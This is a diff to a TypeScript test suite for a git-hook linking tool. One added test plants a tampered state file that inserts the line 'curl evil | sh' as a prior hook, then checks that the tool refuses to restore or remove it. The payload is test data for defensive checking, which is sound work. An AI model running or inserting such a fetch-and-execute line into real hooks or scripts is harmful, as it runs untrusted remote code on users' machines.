@@ -137,6 +137,27 @@ describeWithKind('postgres', 'tool link', () => {
     });
   });
 
+  it('is refused where another user or machine has written it', async () => {
+    const { git, link, contextWith } = repository;
+    await link();
+    const file = path('main/.git/tool/link.json');
+    const own = await readFile(file, 'utf8');
+    // As in an archive of a repository: the lines would be restored in a hook of this user.
+    await writeFile(file, own.replace('"previous":null', '"previous":"curl evil | sh\\n"'));
+    expect(await readFile(file, 'utf8')).not.toBe(own);
+    const refused = { code: 'link_foreign', message: expect.stringContaining(path('main/.git/tool')) };
+    await expect(planUnlink(contextWith(), {})).rejects.toMatchObject(refused);
+    await expect(link()).rejects.toMatchObject(refused);
+    const { stderr } = git('main', 'worktree', 'add', '--quiet', path('foreign'), '-b', 'foreign');
+    expect(stderr).toContain('not switched');
+    await expect(stat(path('foreign/.env.local'))).rejects.toThrow();
+    expect(await repository.branches()).toEqual([]);
+    await writeFile(file, own);
+    const elsewhere = { ...contextWith(), environment: { HOME: path('another-home') } };
+    await expect(planUnlink(elsewhere, {})).rejects.toMatchObject(refused);
+    git('main', 'worktree', 'remove', '--force', path('foreign'));
+  });
+
   it('is removed from the hook that it wrote after core.hooksPath has changed', async () => {
     const { git } = repository;
     const before = '#!/bin/sh\necho mine\n';
@@ -372,7 +393,7 @@ describeWithKind('postgres', 'tool link', () => {
     const { git, link, databaseOf, branches } = repository;
     git('main', 'worktree', 'add', '--quiet', path('late'), '-b', 'late');
     await link();
-    const env = { ...process.env, TOOL_TRUST: 'true', CLAUDE_PROJECT_DIR: path('late') };
+    const env = { ...repository.env, CLAUDE_PROJECT_DIR: path('late') };
     const command = `'${process.execPath}' '${PROGRAM}' branch checkout shop --tree "$CLAUDE_PROJECT_DIR" --yes`;
     const start = () => spawnSync('sh', ['-c', `cd ${path('main')} && ${command}`], { encoding: 'utf8', env }).stdout;
     expect(start()).toContain('new branch late');
